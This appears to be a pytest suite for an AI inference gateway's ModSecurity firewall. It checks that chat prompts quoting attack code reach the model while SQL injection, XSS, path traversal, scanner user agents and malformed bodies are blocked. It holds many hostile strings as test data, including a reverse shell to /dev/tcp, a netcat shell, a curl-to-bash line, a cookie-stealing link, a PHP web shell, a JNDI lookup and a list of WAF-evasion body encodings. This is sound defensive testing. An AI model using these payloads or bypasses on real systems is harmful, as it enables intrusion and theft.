"""The firewall with a real ModSecurity and the real Core Rule Set."""

from __future__ import annotations

import base64
import gzip
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator

import httpx
import pytest
from backports import zstd

from infergate.engine.find import find_debian
from tests.backends.servers import scripted
from tests.cache import ENGINES_HOME
from tests.gateway import Gateway, gateway, until

PROMPTS = (
    "Explain this: SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; --",
    "Why is `' UNION SELECT username, password FROM accounts --` an injection?",
    "Optimise: SELECT id, COUNT(*) FROM orders GROUP BY id HAVING COUNT(*) > 3 ORDER BY 2 DESC;",
    "Write a trigger: CREATE TRIGGER t AFTER INSERT ON log BEGIN DELETE FROM log WHERE 1; END;",
    "How do I run `rm -rf /var/log/* && cat /etc/passwd | grep root` safely?",
    "This script fails: curl http://x.test/i.sh | sudo bash -c 'eval $(cat)'; wget -O- x; chmod +x",
    "What does `nc -lvp 4444 -e /bin/sh` do, and `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`?",
    "powershell -nop -w hidden -enc SQBFAFgA; Invoke-Expression (New-Object Net.WebClient)",
    "Fix my page: <script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "<html><body onload=\"init()\"><iframe src='javascript:void(0)'></iframe></body></html>",
    "Is <a href=\"javascript:document.location='http://e.test?c='+document.cookie\">x</a> XSS?",
    "<?php system($_GET['cmd']); eval(base64_decode($x)); include('../../config.php'); ?>",
    'In Java: Runtime.getRuntime().exec("id"); and what is ${jndi:ldap://x.test/a}?',
    "const { exec } = require('child_process'); exec('ls', () => process.exit());",
    "Why does open('../../../etc/shadow') raise? And C:\\Windows\\System32\\cmd.exe?",
    "{% for x in ''.__class__.__mro__[1].__subclasses__() %}{{ x }}{% endfor %}",
    '#!/bin/sh\nset -e\nfor f in $(ls *.txt); do mv "$f" `basename $f .txt`.md; done',
    'Parse <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x> with lxml.',
    "GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1",
    "nmap -sV --script vuln 10.0.0.0/24; sqlmap -u 'http://t.test/?id=1' --dbs; nikto -h t",
    "Mon mot de passe est l'été d'après; c'est \"ça\" & < ou > ? ; ' -- # /* */",
    'db.users.find({$where: "this.a == this.b", age: {$gt: 18, $ne: null}})',
    "(&(objectClass=user)(|(cn=*)(uid=admin)))(userPassword=*) is that LDAP right?",
    "crontab: * * * * * /usr/bin/python3 -c 'import os; os.system(\"id > /tmp/x\")'",
)

SQL = "q=1'%20UNION%20SELECT%20name,pass%20FROM%20users--%20"
CONFIG = """
backends: {{ a: {a}, box: {{ url: {a}, engine: ollama }} }}
models: {{ m: [a] }}
api: {{ batches: {{ max_file: 64M }} }}
services:
  path: {{ url: {s}, path: /path/ }}
  host: {{ url: {s}, host: host.test, auth: none, waf: {{ exclude: [{excluded}] }} }}
  detect: {{ url: {s}, host: detect.test, auth: none, waf: detect }}
  off: {{ url: {s}, host: off.test, auth: none, waf: "off" }}
waf: {{ mode: {mode}, exclude: [{{ rule: 942100, path: /v1/models, target: "ARGS:free" }}] }}
"""
EXCLUDED = "942100, 942190, 942270, 942360, { rule: 930120, path: /elsewhere }"


def start(mode: str) -> Iterator[Gateway]:
    if not any("modsecurity" in each.modules for each in find_debian(ENGINES_HOME)):
        pytest.skip("Debian's engine has no ModSecurity here; `make test` brings it where apt is")
    with scripted(name="a") as a, scripted(name="s") as s:
        config = CONFIG.format(a=a.url, s=s.url, mode=mode, excluded=EXCLUDED)
        with gateway("debian", config) as it:
            yield it


@pytest.fixture(scope="module")
def blocking() -> Iterator[Gateway]:
    yield from start("block")


@pytest.fixture(scope="module")
def detecting() -> Iterator[Gateway]:
    yield from start("detect")


def chat(content: str) -> dict[str, object]:
    return {"model": "m", "messages": [{"role": "user", "content": content}]}


def findings(it: Gateway, request_id: str) -> dict[str, object]:
    """The line of logs/waf.log about a request."""
    path = it.home / "logs" / "waf.log"

    def line() -> dict[str, object] | None:
        lines = path.read_text().splitlines() if path.exists() else []
        return next((e for e in map(json.loads, lines) if e["id"] == request_id), None)

    return until(line)


def test_none_of_24_prompts_of_code_is_blocked(blocking: Gateway) -> None:
    with httpx.Client(base_url=blocking.url, headers=blocking.headers()) as client:
        for prompt in PROMPTS:
            for path in ("/v1/chat/completions", "/v1/messages"):
                answer = client.post(path, json={**chat(prompt), "max_tokens": 5})
                assert answer.status_code == 200, (path, prompt, answer.text)
    assert len(PROMPTS) == 24


def test_prompts_may_come_as_curl_sends_them_large_or_many(blocking: Gateway) -> None:
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    body = json.dumps(chat(PROMPTS[0])).encode()
    assert blocking.post("/v1/chat/completions", body, headers=form).status_code == 200
    early = {"Content-Encoding": "identity"}  # leaves the short way before the firewall
    assert blocking.post("/v1/chat/completions?x=y", body, headers=early).status_code == 200
    assert blocking.chat(messages=chat(PROMPTS[0] * 3000)["messages"]).status_code == 200
    streamed = blocking.chat(stream=True)
    assert streamed.text.endswith("data: [DONE]\n\n")
    turns = [{"role": "user", "content": PROMPTS[4]}] * 600
    assert blocking.chat(messages=turns).status_code == 200
    numbers = {"model": "m", "input": list(range(3000))}
    assert blocking.post("/v1/embeddings", numbers).status_code == 200


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("/v1/chat/completions?" + SQL, {}),
        ("/v1/chat/completions?file=../../../../etc/passwd", {}),
        ("/v1/chat/completions?x=<script>alert(1)</script>", {}),
        ("/v1/chat/completions", {"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}),
        ("/v1/chat/completions", {"User-Agent": "Nikto/2.5"}),
        ("/v1/chat/completions", {"Referer": "<script>alert(1)</script>"}),
        ("/v1/chat/completions", {"Content-Encoding": "x", "User-Agent": "masscan/1.0"}),
        ("/v1/audio/transcriptions?" + SQL, {}),
    ],
)
def test_attacks_in_urls_and_headers_are_blocked(
    blocking: Gateway, path: str, headers: dict[str, str]
) -> None:
    answer = blocking.post(path, chat("hi"), headers=headers)
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "waf_blocked")


LISTS = ("/v1/files", "/v1/batches", "/v1/files/file-x/content", "/v1/batches/batch_x")


def test_attacks_on_files_and_batches_are_blocked_too(blocking: Gateway) -> None:
    for path in LISTS:
        answer = blocking.get(f"{path}?{SQL}")
        assert (answer.status_code, answer.json()["error"]["code"]) == (403, "waf_blocked"), path
        assert findings(blocking, answer.headers["x-infergate-request-id"])["attack"]
    scanner = {"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}
    answer = blocking.post("/v1/batches", {"input_file_id": "x"}, headers=scanner)
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "waf_blocked")
    answer = upload(blocking, 40_000_000, "?" + SQL)
    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "waf_blocked")
    assert httpx.get(f"{blocking.url}/v1/files?{SQL}").status_code == 401, "the key comes first"


def test_attacks_on_websockets_and_files_of_models_are_blocked_too(blocking: Gateway) -> None:
    opening = {"Upgrade": "websocket", "Connection": "Upgrade"}
    key = blocking.new_key("manager", "--manage")
    headers = {**blocking.headers(key), **opening}
    socket_url = f"{blocking.url}/v1/realtime?model=m"
    blob = f"/api/blobs/sha256:{'0' * 64}"
    blocked = [
        httpx.get(f"{socket_url}&{SQL}", headers=headers, timeout=60),
        blocking.post(f"{blob}?{SQL}", bytes(40_000_000), key=key),
    ]
    for each in blocked:
        assert (each.status_code, each.json()["error"]["code"]) == (403, "waf_blocked")
    passed = [
        httpx.get(socket_url, headers=headers, timeout=60),
        blocking.post(blob, bytes(40_000_000), key=key),
    ]
    assert not any("waf_blocked" in each.text for each in passed)
    assert "exited on signal" not in (blocking.home / "logs" / "error.log").read_text()


def test_files_pass_the_firewall_whatever_is_in_them(blocking: Gateway) -> None:
    for size in (0, 40_000_000):
        answer = upload(blocking, size)
        assert answer.status_code == 200, answer.text
        id_ = answer.json()["id"]
        assert blocking.get(f"/v1/files/{id_}/content").content.startswith(SAID.encode())
    assert len(blocking.get("/v1/files?limit=1&order=asc").json()["data"]) == 1
    assert "exited on signal" not in (blocking.home / "logs" / "error.log").read_text()


def test_findings_about_files_and_batches_are_written_down(detecting: Gateway) -> None:
    for path in LISTS:
        answer = detecting.get(f"{path}?{SQL}")
        assert answer.status_code in (200, 404), path
        assert findings(detecting, answer.headers["x-infergate-request-id"])["attack"]
    answer = upload(detecting, 40_000_000, "?" + SQL)
    assert answer.status_code == 200
    assert findings(detecting, answer.headers["x-infergate-request-id"])["method"] == "POST"
    assert "exited on signal" not in (detecting.home / "logs" / "error.log").read_text()


def upload(it: Gateway, size: int, query: str = "") -> httpx.Response:
    """A file that begins with an attack."""
    sent = {"file": ("in.jsonl", SAID.encode() + bytes(size))}
    return httpx.post(
        f"{it.url}/v1/files{query}",
        data={"purpose": "batch"},
        files=sent,
        headers=it.headers(),
        timeout=60,
    )


@pytest.mark.parametrize("coding", ["gzip", "zstd"])
def test_a_body_that_the_firewall_could_not_see_is_refused(
    blocking: Gateway, detecting: Gateway, coding: str
) -> None:
    packed = {"gzip": gzip.compress, "zstd": zstd.compress}[coding]
    body = packed(json.dumps(chat("hi")).encode())
    coded = {"Content-Encoding": coding}
    for path in ("/v1/chat/completions", "/v1/messages", "/v1/responses"):
        answer = blocking.post(path, body, headers=coded)
        assert answer.status_code == 403, "a rule of the CRS has it"
        answer = detecting.post(path, body, headers=coded)
        assert answer.status_code == 400, (path, answer.text)
        assert "Content-Encoding" in answer.text, path


def test_an_attack_with_a_large_body_is_blocked_too(blocking: Gateway) -> None:
    answer = blocking.post("/v1/chat/completions?" + SQL, chat("x" * 200_000))
    assert answer.status_code == 403
    assert blocking.post("/v1/chat/completions", chat("x" * 200_000)).status_code == 200


def test_a_blocked_request_is_told_so_in_its_dialect_and_logged(blocking: Gateway) -> None:
    anthropic = blocking.post("/v1/messages?" + SQL, chat("hi"))
    assert anthropic.json()["error"]["type"] == "permission_error"
    ollama = blocking.post("/api/chat?" + SQL, chat("hi"))
    assert "firewall" in ollama.json()["error"]
    request_id = ollama.headers["x-infergate-request-id"]
    line = until(lambda: next((e for e in blocking.log() if e["id"] == request_id), None))
    assert (line["status"], line["error"], line["backend"]) == (403, "waf_blocked", "")


def test_the_firewalls_log_names_rules_and_no_secret(blocking: Gateway) -> None:
    headers = {"Cookie": "session=S3CRET1", "x-api-key": "S3CRET2"}
    path = "/v1/models?token=S3CRET3&q=S3CRET4'%20UNION%20SELECT%201--%20"
    answer = httpx.get(blocking.url + path, headers={**headers, **blocking.headers()})
    assert answer.status_code == 403
    entry = findings(blocking, answer.headers["x-infergate-request-id"])
    assert (entry["attack"], entry["path"], entry["ip"]) == (True, "/v1/models", "127.0.0.1")
    assert {"rule": "942100", "where": "ARGS:q"}.items() <= entry["rules"][0].items()
    log = blocking.home / "logs" / "waf.log"
    assert "S3CRET" not in log.read_text()
    assert blocking.key not in log.read_text()
    assert log.stat().st_mode & 0o077 == 0
    until(lambda: not list((blocking.home / "run" / "waf").glob("*/*/*")))
    shown = blocking.run("waf").stdout
    assert "942100" in shown
    assert all(len(row) <= 80 for row in shown.splitlines())


def test_services_are_judged_with_their_bodies_each_in_its_mode(blocking: Gateway) -> None:
    attack = {"q": "1' UNION SELECT name FROM users; <script>alert(1)</script>"}
    assert blocking.post("/path/x", attack).status_code == 403
    assert blocking.post("/path/x", {"vector": list(range(3000))}).status_code == 200
    for host, status in (("host.test", 403), ("detect.test", 200), ("off.test", 200)):
        url, headers = blocking.url + "/version", {"Host": host}
        assert httpx.post(url, json=attack, headers=headers).status_code == status, host
        assert httpx.put(url, json={"a": 1}, headers=headers).status_code != 403
    detected = httpx.get(f"{blocking.url}/version?{SQL}", headers={"Host": "detect.test"})
    assert detected.status_code == 200
    entry = findings(blocking, detected.headers["x-infergate-request-id"])
    assert entry["attack"]


JSON = "application/json"
FORM = "multipart/form-data; boundary=X"
SAID = "1' UNION SELECT name FROM users; <script>alert(1)</script>"
ATTACK = json.dumps({"q": SAID}).encode()


def part(
    content: bytes, head: str = 'form-data; name="q"', more: str = "", end: bytes = b"--X--\r\n"
) -> bytes:
    top = f"--X\r\nContent-Disposition: {head}\r\n{more}\r\n".encode()
    return top + content + b"\r\n" + end


A_FILE = 'form-data; name="f"; filename="a"'
A_FIELD = 'Content-Disposition: form-data; name="q"\r\n'
UNREADABLE = {
    "a BOM": (JSON, b"\xef\xbb\xbf" + ATTACK),
    "UTF-16": (JSON, ATTACK.decode().encode("utf-16")),
    "UTF-32": (JSON, ATTACK.decode().encode("utf-32")),
    "600 levels": (JSON, b'{"a":' * 600 + ATTACK + b"}" * 600),
    "200 levels": (JSON, b"[" * 200 + ATTACK + b"]" * 200),
    "a comment": (JSON, b"/* x */" + ATTACK),
    "a comment inside": (JSON, b"{/**/" + ATTACK[1:]),
    "a NUL before": (JSON, b"\0" + ATTACK),
    "a NUL inside": (JSON, b'{"a":"\0",' + ATTACK[1:]),
    "a control character": (JSON, b'{"a":"\n",' + ATTACK[1:]),
    "invalid UTF-8": (JSON, b'{"a":"\xff",' + ATTACK[1:]),
    "an escape that is none": (JSON, b'{"a":"\\x",' + ATTACK[1:]),
    "single quotes": (JSON, b"{'q':" + ATTACK[5:]),
    "NaN": (JSON, b'{"a":NaN,' + ATTACK[1:]),
    "two documents": (JSON, b'{"a":1}' + ATTACK),
    "unclosed": (JSON, ATTACK[:-1]),
    "a vendor's type": ("application/vnd.x+json", b"/**/" + ATTACK),
    "XML unclosed": ("application/xml", b"<a><q>" + SAID.encode()),
    "members beyond the limit": (JSON, json.dumps({"a": [1] * 20_000, "q": SAID}).encode()),
    "fields beyond the limit": ("application/x-www-form-urlencoded", b"a=1&" * 6000 + b"q=1"),
    "larger than what is judged": (JSON, json.dumps({"a": "x" * 14_000_000, "q": SAID}).encode()),
    "behind 2 MB of JSON": (JSON, json.dumps({"a": "x" * 2_000_000, "q": SAID}).encode()),
    "compressed": (JSON, gzip.compress(ATTACK)),
    "a form without its end": (FORM, part(SAID.encode(), end=b"")),
    "a form with half an end": (FORM, part(SAID.encode(), end=b"--X-")),
    "two boundaries": ("multipart/form-data; boundary=Y; boundary=X", part(SAID.encode())),
    "no boundary": ("multipart/form-data", part(SAID.encode())),
    "BOUNDARY": ("multipart/form-data; BOUNDARY=X", part(SAID.encode())),
    "a quoted boundary of single quotes": ("multipart/form-data; boundary='X'", part(b"x")),
    "bare line feeds": (FORM, part(SAID.encode()).replace(b"\r\n", b"\n")),
    "a field without a name": (FORM, part(SAID.encode(), "form-data")),
    "a field behind the end": (FORM, part(b"x") + part(SAID.encode())),
    "a file that is a field, too": (FORM, part(SAID.encode(), A_FILE, A_FIELD)),
    "the same, far apart": (FORM, part(SAID.encode(), A_FILE, "X-Y: z\r\n" * 50 + A_FIELD)),
    "the same behind a large file": (
        FORM,
        part(b"\r\n--a\r\n" * 90_000, A_FILE, end=b"") + part(b"x", A_FILE, A_FIELD),
    ),
    "a browser's report": ("application/csp-report", ATTACK),
}


@pytest.mark.parametrize("kind", UNREADABLE)
def test_what_the_firewall_cannot_read_reaches_no_service(blocking: Gateway, kind: str) -> None:
    content_type, body = UNREADABLE[kind]
    answer = blocking.post("/path/x", body, headers={"Content-Type": content_type})
    assert answer.status_code == 403, kind
    assert answer.json()["error"]["code"] == "waf_blocked"


def test_why_a_body_was_not_read_is_in_the_firewalls_log(blocking: Gateway) -> None:
    answer = blocking.post("/path/x", b"{")
    entry = findings(blocking, answer.headers["x-infergate-request-id"])
    assert entry["attack"]
    assert "200002" in str(entry["rules"])
    answer = blocking.post("/path/x", {"a": [1] * 20_000})
    entry = findings(blocking, answer.headers["x-infergate-request-id"])
    found = {rule["rule"] for rule in entry["rules"]}
    assert found <= {"200007", "200002"}, "no rule of the Core Rule Set was asked"


NODE = {
    "parameters": {"url": "={{ $json.url }}", "options": {}},
    "id": "9f0b",
    "name": "HTTP Request",
    "type": "n8n-nodes-base.httpRequest",
    "typeVersion": 4.2,
    "position": [120, 20],
}
TURN = {
    "id": "1f",
    "role": "user",
    "content": "It's 1.2 MB (or more)? See README.md:\n\n1. run it\n2. wait",
}
SENT = {
    "nothing": (JSON, b""),
    "an n8n workflow": (JSON, json.dumps({"name": "w", "nodes": [NODE] * 100}).encode()),
    "a chat of Open WebUI": (JSON, json.dumps({"chat": {"messages": [TURN] * 200}}).encode()),
    "an image in JSON": (
        JSON,
        json.dumps({"url": base64.b64encode(bytes(1_500_000)).decode()}).encode(),
    ),
    "a poll of socket.io": ("text/plain;charset=UTF-8", b'42["events",{"a":"b"}]'),
    "a file": (FORM, part(bytes(300_000), 'form-data; name="f"; filename="a.bin"')),
    "a file of text": (FORM, part(b"--\n-- x\n---\n" * 99, 'form-data; name="f"; filename="a.md"')),
    "a file of a mail": (
        FORM,
        part(b"--\n-- x\nContent-Disposition: a\nTo: b\n\nContent-Disposition: c\n\n", A_FILE),
    ),
    "a file of SQL": (FORM, part(SAID.encode(), 'form-data; name="f"; filename="a.sql"')),
    "a large file": (FORM, part(bytes(14_000_000), 'form-data; name="f"; filename="a.bin"')),
    "a form of .NET": ('multipart/form-data; boundary="X"', part(b"x", "form-data; name=q")),
    "a file with a name in UTF-8": (
        FORM,
        part(b"x", 'form-data; name="f"; filename="a.txt"; filename*=utf-8\'\'%C3%A4.txt'),
    ),
    "a file with its type": (
        FORM,
        part(b"x", 'form-data; name="f"; filename="a.txt"', "Content-Type: text/plain\r\n"),
    ),
}


@pytest.mark.parametrize("kind", SENT)
def test_what_applications_send_passes(blocking: Gateway, kind: str) -> None:
    content_type, body = SENT[kind]
    answer = blocking.post("/path/x", body, headers={"Content-Type": content_type})
    assert answer.status_code != 403, kind


def serve(answer: Callable[[socket.socket], None]) -> int:
    """The port of a server whose connections have a thread each: the first is the control plane's,
    which looks whether anybody is there."""
    server = socket.create_server(("127.0.0.1", 0))

    def one(connection: socket.socket) -> None:
        with connection:
            if connection.recv(65536):
                answer(connection)

    def accept() -> None:
        while True:
            threading.Thread(target=one, args=(server.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return int(server.getsockname()[1])


def switched(connection: socket.socket) -> None:
    head = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    connection.sendall(head.encode())
    connection.sendall(b"echo " + connection.recv(100))


def dripping(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: 1\n\n")
    connection.recv(1)  # until the other side is gone, or has what it wants
    time.sleep(30)


@pytest.mark.long
def test_websockets_and_event_streams_pass_while_they_are_judged(blocking: Gateway) -> None:
    before = blocking.file.read_text()
    more = f"""
  socket: {{ url: "http://127.0.0.1:{serve(switched)}", host: socket.test, auth: none }}
  events: {{ url: "http://127.0.0.1:{serve(dripping)}", host: events.test, auth: none }}
waf:"""
    try:
        blocking.file.write_text(before.replace("\nwaf:", more))
        blocking.run("reload")
        with socket.create_connection(("127.0.0.1", blocking.port), 10) as client:
            client.sendall(
                b"GET /ws HTTP/1.1\r\nHost: socket.test\r\nUpgrade: websocket\r\n"
                b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n"
            )
            assert b" 101 " in client.recv(4096)
            client.sendall(b"<script>")
            assert client.recv(100) == b"echo <script>"
        headers = {"Host": "events.test"}
        with httpx.stream("GET", blocking.url + "/e", headers=headers, timeout=10) as events:
            assert next(events.iter_raw()) == b"data: 1\n\n", "at once, though more may come"
    finally:
        blocking.file.write_text(before)
        blocking.run("reload")


def test_excluded_rules_are_not_applied_where_they_are_excluded(blocking: Gateway) -> None:
    tautology = "=1'%20or%20'1'='1"
    assert blocking.get("/v1/models?free" + tautology).status_code == 200
    assert blocking.get("/v1/models?other" + tautology).status_code == 403
    excluded = httpx.get(f"{blocking.url}/version?{SQL}", headers={"Host": "host.test"})
    assert excluded.status_code == 200, "by the service's numbers"
    path = "/version?f=/etc/passwd"
    refused = httpx.get(blocking.url + path, headers={"Host": "host.test"})
    assert refused.status_code == 403, "that rule is excluded elsewhere only"


def test_a_request_without_a_key_does_not_reach_the_firewall(blocking: Gateway) -> None:
    assert httpx.get(f"{blocking.url}/v1/models?{SQL}").status_code == 401


def test_detecting_refuses_nothing_and_writes_all_ways_down(detecting: Gateway) -> None:
    for body in (chat("hi"), chat("x" * 200_000)):
        answer = detecting.post("/v1/chat/completions?" + SQL, body)
        assert answer.status_code == 200
        entry = findings(detecting, answer.headers["x-infergate-request-id"])
        assert (entry["attack"], entry["method"]) == (True, "POST")
    listed = detecting.get("/v1/models?" + SQL)
    assert listed.status_code == 200
    assert findings(detecting, listed.headers["x-infergate-request-id"])["attack"]
    streamed = detecting.chat(stream=True)
    assert streamed.status_code == 200
    assert streamed.text.endswith("data: [DONE]\n\n")
    time.sleep(0.2)
    assert "exited on signal" not in (detecting.home / "logs" / "error.log").read_text()


@pytest.mark.long
def test_it_survives_a_reload_and_can_be_switched_off(detecting: Gateway) -> None:
    before = detecting.file.read_text()
    try:
        detecting.file.write_text(before.replace("mode: detect", "mode: off"))
        detecting.run("reload")
        assert detecting.get("/v1/models?" + SQL).status_code == 200
        rendered = (detecting.home / "current" / "sites-available" / "api.conf").read_text()
        assert "waf" not in rendered
    finally:
        detecting.file.write_text(before)
        detecting.run("reload")
    assert detecting.get("/v1/models").status_code == 200


def test_the_embedded_engine_refuses_a_firewall_in_one_sentence() -> None:
    with gateway(
        "embedded", "backends: { a: http://127.0.0.1:9 }\nwaf: block\n", start=False
    ) as it:
        refused = it.run("check", check=False)
        assert refused.returncode == 2
        assert "infergate.yaml:5:6: the embedded nginx cannot load ModSecurity" in refused.stderr
